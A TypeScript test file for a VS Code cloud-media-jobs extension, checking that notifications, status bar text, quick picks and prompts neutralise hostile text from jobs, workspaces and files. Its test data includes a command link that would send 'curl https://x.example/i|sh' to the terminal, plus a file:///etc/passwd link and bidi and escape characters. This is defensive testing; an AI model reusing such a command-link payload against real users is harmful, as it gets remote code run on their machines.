/**
 * Every message the extension shows that carries text from a cloud, a document, the workspace or a local file,
 * driven with hostile text: a notification never gets a link VS Code would render (its linkedText pattern), a
 * surface that draws icons (status bar, quick picks, input prompts) never gets an unescaped `$(name)`, and no
 * control, C1 or bidi character passes. The callers (Notifier, extension.ts, src/commands/) pass these results
 * to vscode unchanged.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { blankJob } from '../../../src/clouds/adapters/wire.js';
import { type Job } from '../../../src/model/job.js';
import { type JobRef } from '../../../src/model/jobRef.js';
import { jobKey } from '../../../src/kinds/refs.js';
import { type TrackedError, type TrackedJob } from '../../../src/model/trackedJob.js';
import { hasNotificationLink } from '../../../src/util/neutralise.js';
import { aliyunCliImportFailedMessage, alreadyTrackedStatusMessage, cannotOpenMessage, commandFailedMessage, copiedStatusMessage, credentialsNotSavedMessage, finishedMessage, jobPickItems, lookUpFailedMessage, noAliyunCliConfigMessage, outputUrlItems, profileItems, profilePlaceholder, promptText, savedStateProblemMessage, settingsProblemMessage, titleText, watchingStatusMessage } from '../../../src/present/messages.js';

/** What the issue reported: a job error message that is a one-click terminal command. */
const LINK = '[Show details](command:workbench.action.terminal.sendSequence?{"text":"curl\\u0020https://x.example/i|sh\\r"})';
const HOSTILE = `${LINK} $(zap) \u202eevil\u202c \u009b31m \u001b[2J\r\nnext`;
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

function drawnIcons(text: string): string[] {
  return [...text.matchAll(/(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g)].filter((m) => !m[1]).map((m) => m[2]!);
}

function assertNotification(text: string, what: string): void {
  assert.equal(hasNotificationLink(text), false, `${what}: no link in ${JSON.stringify(text)}`);
  assert.doesNotMatch(text, UNSAFE, `${what}: no control, C1 or bidi character`);
}

function assertIconSurface(text: string, what: string): void {
  assertNotification(text, what);
  assert.deepEqual(drawnIcons(text), [], `${what}: no icon in ${JSON.stringify(text)}`);
}

function tracked(snap: Partial<Job> | null, extra: Partial<TrackedJob> = {}, id = '7c1e0a9b5d3f4e21a8c6f0b2d4e6a801'): TrackedJob {
  const ref: JobRef = { kind: 'ice', id, region: 'cn-shanghai', params: {} };
  return {
    key: jobKey(ref), ref, snapshot: snap ? { ...blankJob('ice', 'cn-shanghai', id), ...snap } : null,
    lastError: null, addedAt: '2024-06-01T11:00:00Z', lastCheckedAt: null, watched: false, ...extra,
  };
}

const ERR: TrackedError = { kind: 'api', code: LINK, message: HOSTILE, hint: `[hint](https://evil.example) $(zap)`, at: '2024-06-01T11:00:00Z' };

test('the sample is a link as VS Code would render it', () => {
  assert.ok(hasNotificationLink(LINK));
  assert.ok(hasNotificationLink(`ice 7c1e0a9b…a801 failed: ${LINK}`), 'the old notification text');
});

test('the notification of a finished job: no link from its error code, message or name', () => {
  const failed = tracked({ status: 'failed', rawStatus: 'Failed', name: LINK, error: { code: LINK, message: HOSTILE } });
  const text = finishedMessage(failed, 'failed');
  assertNotification(text, 'finished');
  assert.match(text, /^ice 7c1e0a9b…a801 · /);
  assert.match(text, / failed: \[Show details\] \(command:/, 'the text itself stays readable');
  assert.ok(text.includes('$(zap)'), 'notifications draw no icons: nothing to escape');
  assert.ok(text.length <= 400);
  // A code and a message that only join into a link together.
  const split = tracked({ status: 'failed', error: { code: '[Show details]', message: '(command:workbench.action.quit)' } });
  assertNotification(finishedMessage(split, 'failed'), 'split link');
  assert.equal(finishedMessage(tracked({ status: 'succeeded', name: 'ok' }), 'succeeded'), 'ice 7c1e0a9b…a801 · ok succeeded');
  assert.match(finishedMessage(tracked({ status: 'partial' }), 'partial'), /partly failed$/);
  assert.match(finishedMessage(tracked({ status: 'cancelled' }), 'cancelled'), /was cancelled$/);
});

test('error and information messages with server, document and workspace text', () => {
  assertNotification(cannotOpenMessage(tracked(null, { lastError: ERR }, '[a](command:workbench.action.quit)')), 'cannot open');
  assert.equal(cannotOpenMessage(tracked(null)), 'Cannot open 7c1e0a9b5d3f4e21a8c6f0b2d4e6a801: not fetched yet');
  assertNotification(lookUpFailedMessage('ice', '[a](command:x)', ERR), 'look up');
  assert.match(lookUpFailedMessage('ice', 'abc', { ...ERR, code: 'JobNotFound', message: 'gone', hint: 'check the region' }), /^ice abc: JobNotFound: gone \(check the region\)$/);
  assertNotification(commandFailedMessage(HOSTILE), 'command failed');
  assertNotification(savedStateProblemMessage(HOSTILE), 'saved state');
  // A workspace folder named like a link (a .code-workspace file names its folders, even in Restricted Mode).
  const folders = `mediaJobs.endpoints in workspace settings (${LINK}/.vscode/settings.json, [x](file:///etc/passwd).code-workspace) is ignored`;
  assertNotification(settingsProblemMessage(folders), 'settings problem');
  assertNotification(credentialsNotSavedMessage('Alibaba Cloud', new Error(HOSTILE)), 'credentials');
  assertNotification(credentialsNotSavedMessage('Alibaba Cloud', HOSTILE), 'credentials (not an Error)');
  assertNotification(noAliyunCliConfigMessage(`/home/[x](command:y)/.aliyun/config.json`), 'no cli config');
  assertNotification(aliyunCliImportFailedMessage(`profile ${LINK} uses mode Foo`), 'cli import');
});

test('status bar messages: no icon, no link', () => {
  const t = tracked({ status: 'running', name: HOSTILE });
  assertIconSurface(watchingStatusMessage([t, t]), 'watching');
  assertIconSurface(copiedStatusMessage('$(zap)[a](command:x)'), 'copied');
  assertIconSurface(alreadyTrackedStatusMessage('$(zap)'), 'already tracked');
  assert.equal(copiedStatusMessage('$(zap)'), 'Media Jobs: copied \\$(zap)', 'shows the characters');
});

test('quick pick items: shown text neutralised, the value kept as it is', () => {
  const t = tracked({ status: 'failed', name: `$(pass) done ${LINK}` }, {}, '$(zap)-id');
  for (const item of jobPickItems([t])) {
    assertIconSurface(item.label, 'job label');
    assertIconSurface(item.description, 'job description');
    assertIconSurface(item.detail, 'job detail');
    assert.equal(item.key, t.key);
  }
  const url = 'https://b.example/$(zap)/out.mp4';
  const [u] = outputUrlItems([url]);
  assertIconSurface(u!.label, 'url label');
  assert.equal(u!.url, url, 'the URL copied is the real one');
  const [p] = profileItems([`$(key) ${LINK}`]);
  assertIconSurface(p!.label, 'profile label');
  assert.equal(p!.profile, `$(key) ${LINK}`, 'the profile imported is the named one');
  assertNotification(profilePlaceholder(HOSTILE), 'profile placeholder');
});

test('input box prompts and validation messages (they render links and icons) and titles', () => {
  assertIconSurface(promptText(`CasterId of the production studio that ShowId ${LINK}$(zap) belongs to`), 'prompt');
  assertNotification(titleText(`Look up ${HOSTILE}`), 'title');
});
